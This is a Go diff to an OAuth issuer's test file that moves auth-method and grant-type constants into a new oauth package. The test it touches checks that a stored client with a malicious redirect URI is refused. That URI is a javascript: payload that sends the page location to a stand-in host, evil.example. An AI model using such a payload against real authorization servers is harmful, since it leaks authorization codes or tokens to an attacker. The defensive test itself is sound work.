@@ -8,6 +8,7 @@ import (
 	"time"
 
 	"issuer/issuer"
+	"issuer/issuer/oauth"
 	"issuer/storage"
 )
 
@@ -114,7 +115,7 @@ func TestStoredRedirectURIRefused(t *testing.T) {
 	const evil = "javascript:fetch('//evil.example/'+location)"
 	s := newAuthFlow(t, func(c *issuer.Config) { c.Authorization.RequirePAR = false })
 	if err := s.Store.CreateClient(t.Context(), storage.Client{
-		ID: "old", AuthMethod: issuer.AuthNone, GrantTypes: []string{issuer.GrantAuthorizationCode},
+		ID: "old", AuthMethod: oauth.AuthNone, GrantTypes: []string{oauth.GrantAuthorizationCode},
 		RedirectURIs: []string{evil}, CreatedAt: time.Now(),
 	}); err != nil {
 		t.Fatal(err)
